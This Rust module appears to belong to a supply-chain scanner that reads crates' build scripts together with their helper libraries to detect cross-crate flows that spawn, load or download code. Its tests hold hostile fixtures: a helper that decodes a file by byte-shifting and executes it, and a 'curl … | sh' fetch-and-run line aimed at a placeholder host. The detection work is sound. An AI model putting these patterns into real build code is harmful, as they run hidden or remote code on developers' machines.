//! Build code read together with the libraries that it calls, however many crates lie between what begins
//! in one and ends in another: a file of this crate that a helper starts, a line that a helper runs, a
//! macro, a builder or a trait of a helper.
//!
//! A crate that the capability table describes is not read: what its calls mean is known. Neither is one
//! whose code is larger than [`CODE`]: honest helpers of that size are compilers and frameworks, and what
//! theirs do by themselves is in their own records.

use std::collections::BTreeMap;

use custody_bytes::gzip_tar::{GzipTar, Limits, MemberKind};
use serde::{Deserialize, Serialize};

use super::facts::BuildRecord;
use super::manifest::ManifestInput;
use crate_read::rust_source::{
    self, Capability, CapabilityTable, Downloads, Entry, Flow, Sources, StepKind,
};

/// Most code of one helper, and of all of them.
const CODE: usize = 512 << 10;
const ALL: usize = 1 << 20;
/// Most flows that a reading of several crates gives.
const FLOWS: usize = 32;
/// What stands between the name of a helper and a path in it: no path of a crate holds it.
const INSIDE: &str = ":/";

/// The code of one crate, as far as it is read together with another.
#[derive(Clone, Debug, Default)]
pub struct Code {
    manifest: String,
    files: BTreeMap<String, Vec<u8>>,
}

impl Code {
    /// The Rust files of an archive that are wanted; nothing where they are too much, or the archive is
    /// damaged.
    #[must_use]
    pub fn of_archive(packed: &[u8], wanted: impl Fn(&str) -> bool) -> Option<Self> {
        let mut archive = GzipTar::new(packed, Limits::default(), Vec::new()).ok()?;
        let mut code = Self::default();
        let mut size = 0;
        while let Some(member) = archive.next().ok()? {
            let path = std::str::from_utf8(member.path).ok().and_then(|path| path.split_once('/'));
            let Some((_, path)) = path.filter(|_| member.kind == MemberKind::File) else {
                continue;
            };
            if path == "Cargo.toml" {
                let text = &member.bytes[..member.bytes.len().min(CODE)];
                code.manifest = String::from_utf8_lossy(text).into_owned();
            } else if wanted(path) {
                size += member.bytes.len();
                if size > CODE {
                    return None;
                }
                code.files.insert(path.to_owned(), member.bytes.to_vec());
            }
        }
        Some(code)
    }

    fn manifest(&self) -> Option<ManifestInput> {
        ManifestInput::parse(&self.manifest, |path| self.files.contains_key(path)).ok()
    }

    fn size(&self) -> usize {
        self.files.values().map(Vec::len).sum()
    }
}

/// Whether a file can be code of a library that another crate calls.
#[must_use]
pub fn is_library_code(path: &str) -> bool {
    path.rsplit_once('.').is_some_and(|(_, extension)| extension == "rs")
        && !["tests/", "examples/", "benches/"].iter().any(|folder| path.starts_with(folder))
}

/// What several crates do together that none of them does alone.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Together {
    flows: Vec<Flow>,
    downloads: Option<Downloads>,
}

/// Reads the build code of a crate together with libraries of other packages.
#[must_use]
pub fn read_together(own: &Code, helpers: &[(String, Code)], table: &CapabilityTable) -> Together {
    let Some(manifest) = own.manifest() else { return Together::default() };
    let mut roots = manifest.build_scripts.clone();
    if manifest.proc_macro {
        roots.push(manifest.library.clone());
    }
    let mut sources: Sources<'_> =
        own.files.iter().map(|(path, bytes)| (path.clone(), bytes.as_slice())).collect();
    let mut renames = manifest.renames;
    let mut beside = BTreeMap::new();
    let mut left = ALL;
    for (package, code) in helpers {
        let Some(said) = code.manifest().filter(|_| code.size() <= left) else { continue };
        left -= code.size();
        for (path, bytes) in &code.files {
            sources.insert(format!("{package}{INSIDE}{path}"), bytes);
        }
        for (name, renamed) in said.renames {
            renames.entry(name).or_insert(renamed);
        }
        let root = format!("{package}{INSIDE}{}", said.library);
        beside.insert(package.replace('-', "_"), root);
    }
    if beside.is_empty() || roots.is_empty() {
        return Together::default();
    }
    let entry = Entry { roots, at_build: true, renames, beside, ..Entry::default() };
    let facts = rust_source::read(&sources, &entry, table);
    let flows = facts.flows.into_iter().filter_map(across).take(FLOWS).collect();
    Together { flows, downloads: facts.downloads }
}

/// A flow that passes a helper and starts or sends something, with its steps named by crate. What is linked
/// or compiled behind a helper is what helpers of builds are for: one that packs objects into archives.
fn across(mut flow: Flow) -> Option<Flow> {
    if !matches!(flow.sink, StepKind::Spawn | StepKind::Load | StepKind::Send) {
        return None;
    }
    for step in &mut flow.steps {
        if let Some((package, path)) = step.file.split_once(INSIDE) {
            if flow.through.is_empty() {
                package.clone_into(&mut flow.through);
            }
            step.file = format!("{package}/{path}");
        }
    }
    (!flow.through.is_empty()).then_some(flow)
}

impl BuildRecord {
    /// Packages whose libraries run with the build code, but those that the table describes.
    #[must_use]
    pub fn unlisted_helpers(&self, table: &CapabilityTable) -> Vec<&str> {
        let mut helpers = self.helpers();
        helpers.retain(|package| !table.is_head(&package.replace('-', "_")));
        helpers
    }

    /// Whether its build code starts, loads, links or reaches out, or its library does for others.
    #[must_use]
    pub fn acts(&self) -> bool {
        const ACTING: [Capability; 6] = [
            Capability::Spawn,
            Capability::Shell,
            Capability::DynamicLoad,
            Capability::Network,
            Capability::Download,
            Capability::RawSocket,
        ];
        self.library.iter().any(|hit| ACTING.contains(&hit.capability))
            || self.build.capability_names.iter().any(|name| ACTING.contains(name))
            || !self.library_flows.is_empty()
    }

    /// Adds what was seen when it was read together with its helpers.
    pub fn add_together(&mut self, together: Together) {
        let ends = |flow: &Flow| (flow.source, flow.sink, flow.through.clone());
        for flow in together.flows {
            let known = self.build.flows.iter().any(|known| ends(known) == ends(&flow));
            if !known {
                self.build.flows.push(flow);
            }
        }
        if self.build.downloads.is_none() && self.fetches_elsewhere() {
            self.build.downloads = together.downloads;
        }
        self.told_downloads();
    }

    fn fetches_elsewhere(&self) -> bool {
        let fetched = |flow: &Flow| flow.source == StepKind::Fetch && !flow.through.is_empty();
        self.build.flows.iter().any(fetched)
    }

    /// A flow from the network through another crate is a download of this one's build.
    pub(super) fn told_downloads(&mut self) {
        if self.build.downloads.is_some() || !self.fetches_elsewhere() {
            return;
        }
        let fetched = self.build.flows.iter().filter(|flow| !flow.through.is_empty());
        let by = fetched
            .filter_map(|flow| {
                let step = flow.steps.iter().find(|step| step.kind == StepKind::Fetch)?;
                Some(format!("{} through {}", step.api, flow.through))
            })
            .take(FLOWS)
            .collect();
        self.build.downloads = Some(Downloads {
            urls: self.build.urls.iter().map(|url| url.url.clone()).take(64).collect(),
            by,
            verification: rust_source::Verification::Unknown,
            evidence: Vec::new(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collectors::build_code::{SourceKeeper, capability_table};

    const SCRIPT_HEAD: &str = "[package]\nname = 'zed'\nversion = '1.0.0'\nedition = '2021'\n";

    fn code(manifest: &str, files: &[(&str, &str)]) -> Code {
        let files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()));
        Code { manifest: manifest.to_owned(), files: files.collect() }
    }

    fn helper(name: &str, library: &str) -> (String, Code) {
        let manifest = format!("[package]\nname = '{name}'\nversion = '1.0.0'\n");
        (name.to_owned(), code(&manifest, &[("src/lib.rs", library)]))
    }

    fn flows(script: &str, helpers: &[(String, Code)]) -> Vec<Flow> {
        let own = code(SCRIPT_HEAD, &[("build.rs", script)]);
        read_together(&own, helpers, capability_table()).flows
    }

    const STARTS: &str = "pub fn emit(f: &str) {
        let p = std::env::var(\"OUT_DIR\").unwrap() + \"/t\";
        let turned: Vec<u8> = std::fs::read(f).unwrap().iter().map(|b| b - 1).collect();
        std::fs::write(&p, turned).unwrap();
        std::process::Command::new(&p).status().unwrap();
    }";

    #[test]
    fn a_file_of_this_crate_that_a_helper_starts_is_a_flow() {
        let script = "fn main() { kit_path::emit(\"docs/t.txt\") }";
        let found = flows(script, &[helper("kit-path", STARTS)]);
        let started = found.iter().find(|flow| flow.sink == StepKind::Spawn).expect("a flow");
        assert_eq!((started.source, started.through.as_str()), (StepKind::Read, "kit-path"));
        assert!(started.steps.iter().any(|step| step.file == "kit-path/src/lib.rs"));
    }

    #[test]
    fn three_crates_are_one_chain() {
        let one = helper("kit-one", "pub fn go(f: &str) { kit_two::go(f) }");
        let two = helper("kit-two", "pub use kit_three::emit as go;");
        let script = "fn main() { kit_one::go(\"docs/t.txt\") }";
        let found = flows(script, &[one, two, helper("kit-three", STARTS)]);
        assert!(
            found.iter().any(|flow| flow.sink == StepKind::Spawn && flow.source == StepKind::Read)
        );
    }

    #[test]
    fn a_helper_s_own_modules_and_imports_are_its_own() {
        let library = "mod inner { pub mod deep { pub fn text() -> String { String::new() } }\n\
                       pub use crate::tools::emit; }\nmod tools { pub use std::fs::read; \
                       pub fn emit(f: &str) { let d = crate::tools::read(f).unwrap(); \
                       let p = std::env::var(\"OUT_DIR\").unwrap() + \"/t\"; std::fs::write(&p, d).unwrap(); \
                       std::process::Command::new(&p).status().unwrap(); } }\npub use inner::emit;";
        let script = "mod tools { pub fn emit(_: &str) {} }\n\
                      fn main() { kit::emit(\"docs/t.txt\"); tools::emit(\"docs/u.txt\") }";
        let found = flows(script, &[helper("kit", library)]);
        let steps = found.iter().flat_map(|flow| &flow.steps);
        let read: Vec<&str> = steps.map(|step| step.detail.as_str()).collect();
        assert!(read.contains(&"docs/t.txt"), "{found:?}");
        assert!(!read.contains(&"docs/u.txt"), "{found:?}");
    }

    #[test]
    fn a_helper_that_only_reads_or_writes_tables_gives_nothing() {
        let library = "pub fn table(f: &str) { let p = std::env::var(\"OUT_DIR\").unwrap() + \"/t.rs\"; \
                       std::fs::write(&p, std::fs::read_to_string(f).unwrap().len().to_string()).unwrap(); }";
        let script = "fn main() { kit::table(\"docs/t.txt\"); \
                      std::process::Command::new(\"rustc\").arg(\"-vV\").output().unwrap(); }";
        assert_eq!(flows(script, &[helper("kit", library)]), []);
    }

    #[test]
    fn a_fetch_that_a_helper_starts_is_a_download_of_the_build() {
        let mut keeper = SourceKeeper::new();
        keeper.file("Cargo.toml", format!("{SCRIPT_HEAD}[build-dependencies]\nkit='1'").as_bytes());
        let script = "fn main() { kit::go() }";
        keeper.file("build.rs", script.as_bytes());
        let mut record = keeper.finish(capability_table());
        assert_eq!(record.unlisted_helpers(capability_table()), ["kit"]);
        let shell = "pub fn go() { std::process::Command::new(\"sh\").arg(\"-c\")\
                     .arg(\"curl -s https://t.example.invalid/t | sh\").status().unwrap(); }";
        let own = code(SCRIPT_HEAD, &[("build.rs", script)]);
        let together = read_together(&own, &[helper("kit", shell)], capability_table());
        assert!(record.build.downloads.is_none());
        record.add_together(together);
        let fetched = record.build.flows.iter().find(|flow| flow.source == StepKind::Fetch);
        assert_eq!(fetched.expect("a flow").sink, StepKind::Spawn);
        assert!(record.build.downloads.is_some());
    }
}
